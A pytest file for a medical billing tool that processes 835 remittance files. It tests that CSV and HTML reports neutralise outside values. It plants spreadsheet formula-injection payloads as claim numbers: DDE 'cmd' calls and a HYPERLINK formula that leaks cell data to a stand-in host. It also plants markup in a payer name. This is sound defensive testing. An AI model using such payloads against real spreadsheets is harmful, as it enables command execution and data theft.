"""Values from outside the practice (an 835's payer and claim numbers) in CSV and HTML reports."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from lxml import html as lxml_html

from mohsedi.cli.render import audit_csv, csv_cell, denials_csv
from mohsedi.pipeline import run_denial_report, run_ingest
from mohsedi.reports.denials import Period
from mohsedi.reports.html import render_html
from tests.conftest import SAMPLES

# Each formula start OWASP lists, as a claim number (CLP01) a payer could send back.
FORMULAS = {
    "MOHS-0101": '=HYPERLINK("http://x.test/?"&A1)',
    "MOHS-0102": "+1+cmd|' /C calc'!A0",
    "MOHS-0103": "-2+3+cmd|' /C calc'!A0",
    "MOHS-0104": "@SUM(1+9)+cmd|' /C calc'!A0",
}
PAYER = r"=$\frac{1}{0}$ <b>PAYER</b> $x^$"  # mathtext that does not parse, markup, a formula


@pytest.mark.parametrize("value", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\tTAB", "\rCR", "=", "@"])
def test_every_formula_start_is_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "402.81", "+3", "-0.5", "17312", "", "MOHS-0101", "N-1"])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert csv_cell(value) == value


def test_numbers_stay_numbers() -> None:
    from decimal import Decimal

    assert [csv_cell(v) for v in (3, -4, Decimal("-1.20"), None)] == [3, -4, Decimal("-1.20"), None]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_tab_and_cr_at_the_start_of_a_cell_in_every_report_csv() -> None:
    denial = {
        "payer": "\tPAYER",
        "claim": "\rCLAIM",
        "line_id": "=1",
        "procedure": "17311",
        "modifiers": ["XS"],
        "group": "CO",
        "carc": "4",
        "rarc": ["N1"],
        "amount": "-12.50",
        "rule": None,
        "basis": "unexplained",
    }
    [row] = read_csv(denials_csv({"denials": [denial]}))
    assert (row["payer"], row["claim"], row["line_id"], row["amount"]) == ("'\tPAYER", "'\rCLAIM", "'=1", "-12.50")
    finding = {"claim": "@X", "payer": "+P", "line": 1, "line_id": None, "rule": "MOHS001"}
    [row] = read_csv(audit_csv({"findings": [{**finding, "severity": "error", "fix": "none", "message": "-m"}]}))
    assert (row["claim"], row["payer"], row["message"], row["line"]) == ("'@X", "'+P", "'-m", "1")


@pytest.fixture
def hostile_store(tmp_path: Path) -> str:
    text = (SAMPLES / "10-mohs-denials.835").read_text()
    for claim, value in FORMULAS.items():
        text = text.replace(f"CLP*{claim}*", f"CLP*{value}*")
    text = text.replace("N1*PR*SYNTHETIC MEDICARE CONTRACTOR*XV*SMEDC", f"N1*PR*{PAYER}*XV*{PAYER[:40]}")
    path = tmp_path / "hostile.835"
    path.write_text(text)
    url = f"sqlite:///{tmp_path / 'store.db'}"
    [report] = run_ingest([str(path)], url)
    assert report.error is None and report.denials > 0
    return url


def test_formulas_from_an_835_are_neutral_in_the_denials_csv(hostile_store: str) -> None:
    data = run_denial_report(hostile_store, Period(None, None))
    rows = read_csv(denials_csv(data))
    claims = {r["claim"] for r in rows}
    for value in FORMULAS.values():
        assert "'" + value in claims and value not in claims
    assert all(not r["payer"].startswith("=") for r in rows)
    assert all(not r["amount"].startswith("'") for r in rows)  # money stays a number


def test_an_html_report_draws_outside_text_as_plain_text(hostile_store: str) -> None:
    page = render_html(run_denial_report(hostile_store, Period(None, None)))  # $x^$ used to raise here
    tree = lxml_html.fromstring(page)
    assert not tree.xpath("//b") and not tree.xpath("//script")  # markup stays text
    text = tree.text_content()
    for value in FORMULAS.values():
        assert value in text  # shown as it was sent; HTML runs no formulas
    svg_text = " ".join(t.text_content() for t in tree.xpath("//svg//text"))
    assert PAYER[:40] in svg_text or PAYER in svg_text  # the chart label, as sent, not typeset math
